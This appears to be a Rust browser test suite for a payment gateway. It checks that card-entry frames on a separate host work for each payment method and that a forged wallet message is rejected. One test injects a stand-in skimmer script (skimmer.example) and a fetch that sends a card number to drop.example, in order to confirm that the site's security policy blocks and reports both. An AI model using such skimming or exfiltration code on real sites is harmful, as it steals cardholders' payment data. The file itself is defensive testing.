//! Card frames on a separate host: every payment method works as without one, and no page of the gateway has the
//! frames' origin.

use serde_json::json;
use thirtyfour::prelude::*;
use tillgate_tests::{
    Browser, CardForm, MerchantClient, MerchantPage, MerchantSite, Proxy, TestGateway, poll_until, run_in_browser,
};

use crate::APPROVED;
use crate::forms::click_element;

/// A merchant and its site, at a gateway whose frames have a separate host.
struct SeparateHostFixture {
    merchant: MerchantClient,
    site: MerchantSite,
    fields: String,
}

impl SeparateHostFixture {
    /// Creates a merchant with these options and a wallet key, and its site behind the proxy. The site's policy permits
    /// frames from both hosts, and scripts and styles from the public host.
    async fn with_options(gateway: &TestGateway, proxy: &Proxy, options: &[&str]) -> anyhow::Result<Self> {
        let merchant = gateway.create_merchant_with(options)?;
        gateway.run_command(&["wallet-key", "create", "--entity", &merchant.entity_id])?;
        let site = MerchantSite::start_at(&proxy.public).await?;
        let fields = proxy.public.replace("//pay.", "//fields.");
        // The merchant's policy: frames from both hosts, scripts and styles from the public host.
        let origin = fields.trim_end_matches('/');
        site.set_policy(&format!(
            "default-src 'none'; script-src 'self' {{gateway}} 'wasm-unsafe-eval'; style-src 'self' {{gateway}}; \
             frame-src {{gateway}} {origin}; img-src 'self' data:; form-action 'self' {{gateway}}; base-uri 'none'"
        ));
        Ok(Self { merchant, site, fields: origin.to_owned() })
    }

    /// Opens a page with these brands and options for a new checkout with `fields`, waits for `onReady`, and returns
    /// the checkout's id.
    async fn open_checkout_page(
        &self,
        browser: &Browser,
        brands: &str,
        options: &str,
        fields: &[(&str, &str)],
    ) -> anyhow::Result<String> {
        let checkout = self.merchant.create_checkout(&[&[("integrity", "true")], fields].concat()).await?;
        let script = format!("var wpwlOptions = {{ onReady() {{ window.told = 1; }}, {options} }};");
        browser
            .goto(self.site.add_page(MerchantPage::for_checkout(&checkout).with_brands(brands).with_script(&script)))
            .await?;
        browser.wait_until("window.told").await?;
        Ok(checkout.id().to_owned())
    }

    /// Waits for the result page, and asserts that the checkout is paid and that nothing violated the merchant's
    /// policy.
    async fn wait_until_paid(&self, browser: &Browser, checkout: &str) -> anyhow::Result<()> {
        browser.query(By::Id("result")).first().await?;
        let status = self.merchant.read_status(checkout).await?;
        assert_eq!(status.result_code(), APPROVED, "{}", status.text);
        assert_eq!(browser.observed_details("violation").await?, Vec::<String>::new());
        Ok(())
    }
}

/// Returns the origins of the documents in the page's frames, sorted and without duplicates.
async fn frame_origins(browser: &Browser) -> anyhow::Result<Vec<String>> {
    let mut origins = Vec::new();
    for frame in browser.find_all(By::Css("iframe[src^=http]")).await? {
        frame.enter_frame().await?;
        let origin = browser.evaluate("location.origin").await;
        browser.enter_default_frame().await?;
        origins.push(origin?.as_str().unwrap_or_default().to_owned());
    }
    origins.sort();
    origins.dedup();
    Ok(origins)
}

/// Types into the input of a frame, and returns to the page.
async fn type_into_frame(browser: &Browser, frame: &str, text: &str) -> anyhow::Result<()> {
    browser.query(By::Css(frame)).first().await?.enter_frame().await?;
    let typed = async { anyhow::Ok(browser.query(By::Css("input")).first().await?.send_keys(text).await?) }.await;
    browser.enter_default_frame().await?;
    typed
}

#[tokio::test]
async fn every_way_to_pay_works_with_frames_on_a_host_of_their_own() -> anyhow::Result<()> {
    let (gateway, proxy) = TestGateway::start_with_fields_host().await?;
    let shop = SeparateHostFixture::with_options(&gateway, &proxy, &["--3d", "when-enrolled"]).await?;
    run_in_browser(move |browser| async move {
        // Keeps the gateway running as long as the browser is in use.
        let _gateway = gateway;
        pay_by_card(&shop, &browser).await?;
        pay_by_stored_card(&shop, &browser).await?;
        pay_by_secure_fields(&shop, &browser).await?;
        pay_by_wallet(&shop, &browser).await?;
        pay_with_challenge(&shop, &browser).await
    })
    .await
}

/// Pays with a card whose frames are on the separate host, and waits until the checkout is paid.
async fn pay_by_card(shop: &SeparateHostFixture, browser: &Browser) -> anyhow::Result<()> {
    let checkout = shop.open_checkout_page(browser, "VISA", "", &[]).await?;
    let form = CardForm::wait_until_ready(browser).await?;
    assert_eq!(frame_origins(browser).await?, [shop.fields.as_str()]);
    form.fill_fields().await?;
    form.press_pay_button().await?;
    shop.wait_until_paid(browser, &checkout).await
}

/// Pays with a stored card and its code, and asserts that the code was checked.
async fn pay_by_stored_card(shop: &SeparateHostFixture, browser: &Browser) -> anyhow::Result<()> {
    let card = [
        ("paymentBrand", "VISA"),
        ("card.number", "4200000000000000"),
        ("card.holder", "Jane Jones"),
        ("card.expiryMonth", "05"),
        ("card.expiryYear", "2034"),
    ];
    let stored = shop.merchant.post("v1/registrations", &card).await?;
    let offered = [("registrations[0].id", stored.id())];
    let checkout = shop.open_checkout_page(browser, "VISA", "registrations: { requireCvv: true }", &offered).await?;
    type_into_frame(browser, ".wpwl-container-registration iframe.wpwl-control-cvv", "123").await?;
    assert_eq!(frame_origins(browser).await?, [shop.fields.as_str()]);
    click_element(browser, ".wpwl-container-registration .wpwl-button-pay").await?;
    shop.wait_until_paid(browser, &checkout).await?;
    let status = shop.merchant.read_status(&checkout).await?;
    assert_eq!(status.json["result"]["cvvResponse"], "M", "the code was not sent: {}", status.text);
    Ok(())
}

/// Pays with a card whose fields are all in frames, and asserts that its holder arrived.
async fn pay_by_secure_fields(shop: &SeparateHostFixture, browser: &Browser) -> anyhow::Result<()> {
    let checkout = shop.open_checkout_page(browser, "VISA", "enableSAQACompliance: true", &[]).await?;
    let form = CardForm::wait_until_ready(browser).await?;
    form.enter_number("4200000000000000").await?;
    type_into_frame(browser, "iframe[name='card.expiry']", "1139").await?;
    type_into_frame(browser, "iframe[name='card.holder']", "Zora Quux").await?;
    form.enter_security_code("123").await?;
    assert_eq!(frame_origins(browser).await?, [shop.fields.as_str()]);
    form.press_pay_button().await?;
    shop.wait_until_paid(browser, &checkout).await?;
    assert_eq!(shop.merchant.read_status(&checkout).await?.json["card"]["holder"], "Zora Quux");
    Ok(())
}

/// Pays in the wallet sheet, which is on the public host. A page that imitates the sheet cannot submit a token, and no
/// message to the page contains one.
async fn pay_by_wallet(shop: &SeparateHostFixture, browser: &Browser) -> anyhow::Result<()> {
    let checkout = shop.open_checkout_page(browser, "APPLEPAY", "", &[]).await?;
    // A page that imitates the wallet sheet cannot submit a token.
    let forged = "for (let i = 0; i < frames.length; i++) frames[i].postMessage(\
        { tillgateWallet: 1, form: 'x', token: 'forged' }, '*'); return 1";
    browser.execute(forged, vec![]).await?;
    click_element(browser, ".wpwl-button-brand-APPLEPAY").await?;
    browser.query(By::Css("dialog.wpwl-wallet[open] > iframe")).first().await?.enter_frame().await?;
    let public = browser.evaluate("location.origin").await?;
    click_element(browser, "button[value='0']").await?;
    browser.enter_default_frame().await?;
    shop.wait_until_paid(browser, &checkout).await?;
    assert_eq!(public, shop.fields.replace("//fields.", "//pay."), "the sheet does not share the frames' origin");
    let seen = browser.observations().await?;
    let mut agreed = seen.iter().filter(|seen| seen.kind == "message" && seen.detail.contains("agreed"));
    assert!(agreed.all(|seen| !seen.detail.contains("form: x;")), "the forged token was not taken: {seen:?}");
    assert!(seen.iter().all(|seen| !seen.detail.contains("TILLGATE_WALLET")), "no message to the page carries a token");
    Ok(())
}

/// Pays with a card that is challenged. The challenge is on the public host.
async fn pay_with_challenge(shop: &SeparateHostFixture, browser: &Browser) -> anyhow::Result<()> {
    let checkout = shop.open_checkout_page(browser, "VISA", "", &[]).await?;
    let form = CardForm::wait_until_ready(browser).await?;
    form.enter_number("4200000000000042").await?;
    form.enter_expiry("05 / 34").await?;
    form.enter_holder("Jane Jones").await?;
    form.enter_security_code("123").await?;
    form.press_pay_button().await?;
    const TARGET: &str = "iframe.wpwl-target";
    browser.wait_until(&format!("document.querySelector('.wpwl-challenge > {TARGET}')?.checkVisibility()")).await?;
    browser.query(By::Css(TARGET)).first().await?.enter_frame().await?;
    let origin = browser.evaluate("location.origin").await?;
    assert_eq!(
        origin,
        json!(shop.fields.replace("//fields.", "//pay.")),
        "the challenge does not share the frames' origin"
    );
    browser
        .query(By::Css(format!("select[name=returnCode] option[value='{APPROVED}']")))
        .first()
        .await?
        .click()
        .await?;
    browser.query(By::Css("input[type=submit]")).first().await?.click().await?;
    browser.enter_default_frame().await?;
    shop.wait_until_paid(browser, &checkout).await
}

#[tokio::test]
async fn what_a_browser_stops_in_the_merchants_page_and_in_a_frame_is_reported() -> anyhow::Result<()> {
    let (gateway, proxy) = TestGateway::start_with_fields_host().await?;
    let shop = SeparateHostFixture::with_options(&gateway, &proxy, &[]).await?;
    let fields = &shop.fields;
    shop.site.set_policy(&format!(
        "default-src 'none'; script-src 'self' {{gateway}} 'wasm-unsafe-eval'; style-src 'self' {{gateway}}; img-src 'self' data:; \
         frame-src {{gateway}} {fields}; form-action 'self'; report-uri {{gateway}}/v1/policyReports/{}",
        shop.merchant.entity_id
    ));
    run_in_browser(move |browser| async move {
        let _gateway = gateway;
        shop.open_checkout_page(&browser, "VISA", "", &[]).await?;
        CardForm::wait_until_ready(&browser).await?;
        let load =
            "const script = document.createElement('script'); script.src = 'https://skimmer.example/x.js?card=1';
            document.head.append(script); return 1";
        browser.execute(load, vec![]).await?;
        browser.query(By::Css(tillgate_tests::card_form::NUMBER_FRAME)).first().await?.enter_frame().await?;
        let send = "fetch('https://drop.example/4200000000000000').catch(() => 0); return 1";
        browser.execute(send, vec![]).await?;
        browser.enter_default_frame().await?;
        let wanted = [
            ("script-src-elem", "https://skimmer.example", format!("{}pages/0", shop.site.public)),
            ("connect-src", "https://drop.example", format!("{}/v1/pciIframe.html", shop.fields)),
        ];
        for (directive, blocked, document) in wanted {
            poll_until("the report", async || {
                let reports = shop.merchant.get("v1/policyReports").await?.json["policyReports"].clone();
                let found = reports.as_array().into_iter().flatten().any(|report| {
                    report["directive"] == directive
                        && report["blocked"] == blocked
                        && report["document"] == document.as_str()
                });
                Ok(found.then_some(()))
            })
            .await?;
        }
        Ok(())
    })
    .await
}
